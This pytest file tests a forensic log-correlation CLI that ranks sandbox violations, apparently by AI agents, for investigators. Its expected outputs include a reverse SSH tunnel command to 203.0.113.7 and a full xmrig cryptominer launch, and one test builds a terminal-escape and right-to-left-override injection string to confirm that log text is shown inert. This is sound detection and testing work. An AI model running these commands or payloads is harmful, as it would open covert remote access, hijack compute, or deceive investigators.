"""What an investigator sees first (issue 13): a ranked overview that fits any terminal."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner

from correlate.cli import cli
from correlate.pipeline import RunOptions, run
from correlate.reports.overview import rank_key, ranked

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_logs" / "rome_incident"
SHARED = ROOT / "sample_logs" / "rock_shared_hosts"
ESC = "\x1b"


def invoke(*args: str, columns: int | None = None) -> object:
    env = {"COLUMNS": str(columns)} if columns else {"COLUMNS": ""}
    return CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)


def overview_lines(stdout: str) -> list[str]:
    """The overview: from its header line to the blank line before Inputs."""
    lines = stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if line.lstrip().startswith("# conf."))
    end = next(i for i in range(start, len(lines)) if not lines[i].strip())
    return lines[start + 1 : end]


def test_findings_rank_attributed_intrusion_like_acts_first_and_unattributed_last() -> None:
    result = run([str(SAMPLE)], RunOptions())
    rows = ranked(result.findings)
    assert rows[0]["labels"] == "reverse_tunnel" and rows[0]["confidence"] == "high"
    assert rows[1]["labels"] == "mining"
    assert rows[-1]["confidence"] == "none"
    keys = [rank_key(r) for r in rows]
    assert keys == sorted(keys)


def test_run_opens_with_totals_and_the_overview_and_keeps_details_for_d() -> None:
    plain = invoke("run", str(SAMPLE), columns=200)
    assert plain.exit_code == 0
    first = plain.stdout.splitlines()[1]
    assert first.startswith("13 violation conversations from 55 events: attributed 12 high")
    assert "why:" not in plain.stdout  # details only with -d
    detailed = invoke("run", "-d", str(SAMPLE), columns=200)
    assert "why:" in detailed.stdout and "candidates for the first event" in detailed.stdout


def test_at_200_columns_each_finding_is_one_line_with_every_column() -> None:
    result = invoke("run", str(SAMPLE), columns=200)
    rows = overview_lines(result.stdout)
    assert len(rows) == 13
    assert all(len(line) <= 200 for line in rows)
    tunnel = rows[0]
    for part in ("high", "sbx-03", "192.168.10.13", "203.0.113.7:22", "reverse_tunnel", "-4.1s"):
        assert part in tunnel
    assert "ssh -fNR 2222:localhost:22" in tunnel
    assert "not attributed: source 192.168.50.9 is not in the identity map" in rows[-1]


def test_at_80_columns_nothing_that_answers_the_question_is_dropped() -> None:
    result = invoke("run", str(SAMPLE), columns=80)
    rows = overview_lines(result.stdout)
    assert len(rows) == 26  # a line for the finding, one for its call
    assert all(len(line) <= 80 for line in rows)
    assert "high" in rows[0] and "sbx-03" in rows[0] and "203.0.113.7:22" in rows[0]
    assert "reverse_tunnel" in rows[0]
    assert rows[1].lstrip().startswith("↳ run_shell_command step 27: ssh -fNR")
    assert "(-4.1s)" in rows[1] or rows[1].endswith("…")


def test_shared_and_ambiguous_findings_say_so_in_the_overview() -> None:
    result = invoke("run", str(SHARED), "--tz", "Asia/Shanghai", columns=200)
    rows = overview_lines(result.stdout)
    assert "(1 of the low ambiguous between sandboxes)" in result.stdout
    host = next(r for r in rows if "198.51.100.200:5044" in r)
    assert "shared by 4" in host and "ambiguous: call_" in host and "low" in host
    assert rows.index(host) == len(rows) - 1  # low after every attributed finding


def test_load_notes_are_summed_per_format_and_verbose_gives_them_per_file() -> None:
    result = invoke("run", str(SHARED), "--tz", "Asia/Shanghai", columns=200)
    out = result.stdout
    assert "rock_llmservice, 8 files: skipped 8: SESSION_END marker" in out
    assert out.count("LLMService.log") == 0
    verbose = invoke("run", "-v", str(SHARED), "--tz", "Asia/Shanghai", columns=200)
    assert verbose.stdout.count("LLMService.log: skipped 1: SESSION_END marker") == 8


def test_log_text_in_the_overview_is_inert(tmp_path: Path) -> None:
    from test_cli import cfw_line, otlp_line

    evil = f"echo {ESC}[2J [bold red]owned[/] \u202etxt.exe 203.0.113.9\rclean"
    (tmp_path / "fw.jsonl").write_text(cfw_line(rule_result="drop") + "\n")
    (tmp_path / "traces.jsonl").write_text(otlp_line(evil) + "\n")
    for columns in (80, 200):
        out = invoke("run", str(tmp_path), columns=columns).stdout
        assert ESC not in out and "\r" not in out and "\u202e" not in out
        assert "[bold red]owned[/]" in out


def test_many_inputs_are_announced_per_format_and_verbose_lists_each() -> None:
    result = invoke("run", str(SHARED), "--tz", "Asia/Shanghai", columns=200)
    err = result.stderr.splitlines()
    assert "8 files: rock_llmservice" in err and "3 files skipped: not a known log format" in err
    assert not any("LLMService.log" in line for line in err)
    verbose = invoke("run", "-v", str(SHARED), "--tz", "Asia/Shanghai", columns=200)
    assert (
        sum("LLMService.log: rock_llmservice (detected" in x for x in verbose.stderr.splitlines())
        == 8
    )


def test_color_always_never_and_no_color() -> None:
    always = CliRunner().invoke(cli, ["--color", "always", "run", str(SAMPLE)], env={"COLUMNS": ""})
    assert ESC + "[" in always.stdout
    never = CliRunner().invoke(
        cli, ["--color", "never", "run", str(SAMPLE)], env={"COLUMNS": "", "FORCE_COLOR": "1"}
    )
    assert ESC not in never.stdout and ESC not in never.stderr
    plain = CliRunner().invoke(cli, ["run", str(SAMPLE)], env={"COLUMNS": "", "NO_COLOR": "1"})
    assert ESC not in plain.stdout and ESC not in plain.stderr
    assert "reverse_tunnel" in plain.stdout


def test_piped_without_columns_cuts_nothing() -> None:
    rows = overview_lines(invoke("run", str(SAMPLE)).stdout)
    assert any(
        line.endswith(
            "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u "
            "44AFFq5kSiGBoZ... -p x --donate-level 1 >/dev/null 2>&1 &"
        )
        for line in rows
    )
    assert not any("…" in line for line in rows)
